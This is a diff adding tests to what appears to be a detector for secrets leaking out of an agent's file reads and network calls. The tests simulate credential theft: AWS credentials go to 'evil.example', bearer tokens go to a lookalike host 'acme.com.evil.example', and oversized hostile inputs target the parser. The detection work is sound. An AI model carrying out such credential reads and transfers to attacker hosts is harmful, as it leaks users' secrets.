@@ -7,6 +7,7 @@ import gzip
 import json
 import random
 import subprocess
+import time
 import zlib
 from pathlib import Path
 
@@ -76,6 +77,18 @@ def test_credential_files_are_taken_apart() -> None:
 )  # fmt: skip
 def test_placeholders_and_what_only_sounds_secret(line: str) -> None:
     assert names(".env", line.encode()) == {}
+
+
+@pytest.mark.parametrize(
+    "data",
+    [b"-----BEGIN PRIVATE KEY-----" * 9000, b"key=x" + b" " * 19_000 + b"y\n", (b"a" + b" " * 400 + b"b=\n") * 500, b"TOKEN=" + b"<" * 19_000, b"your" * 50_000,
+     b'{"token":' * 20_000, b"eyJaaaaaaaa." * 15_000, b"a" * 200_000 + b"://@", b"[" * 200_000, b"machine password " * 10_000],
+)  # fmt: skip
+def test_hostile_files_are_read_in_time(data: bytes) -> None:
+    began = time.process_time()
+    for path in (".env", "~/.netrc", "~/.npmrc", "~/.docker/config.json", "~/.gnupg/x", "notes.txt"):
+        names(path, data)
+    assert time.process_time() - began < 3
 
 
 def test_public_files_are_none() -> None:
@@ -217,6 +230,23 @@ def test_what_left_before_the_reading_is_no_sighting() -> None:
     run.net.http(agent, "other.example", "POST", "/", b"k=" + KEY)
     run.read(agent, "~/.aws/credentials", AWS)
     assert sightings(run).found == []
+
+
+def test_sendfile_reads_and_sends_at_once() -> None:
+    run, agent = run_with_aws()
+    run.transfer(agent, "evil.example", 80, AWS)
+    run.transfers[-1].seqs = run.files[-1].seqs
+    assert {seen.channel for seen in sightings(run).found} == {"raw"}
+
+
+def test_a_service_owns_what_is_called_after_it() -> None:
+    run = Made()
+    agent = run.process(env={"ACME_TOKEN": KEY.decode(), "INTERNAL_TOKEN": TOKEN.decode()[4:]})
+    run.net.http(agent, "api.acme.com", headers={"Authorization": f"Bearer {KEY.decode()}"})
+    assert sightings(run).found == []
+    run.net.http(agent, "acme.com.evil.example", headers={"Authorization": f"Bearer {KEY.decode()}"})
+    run.net.http(agent, "internal.com", headers={"Authorization": f"Bearer {TOKEN.decode()[4:]}"})
+    assert {seen.to for seen in sightings(run).found} == {"acme.com.evil.example", "internal.com"}
 
 
 def test_parts_that_others_have_too_are_none() -> None:
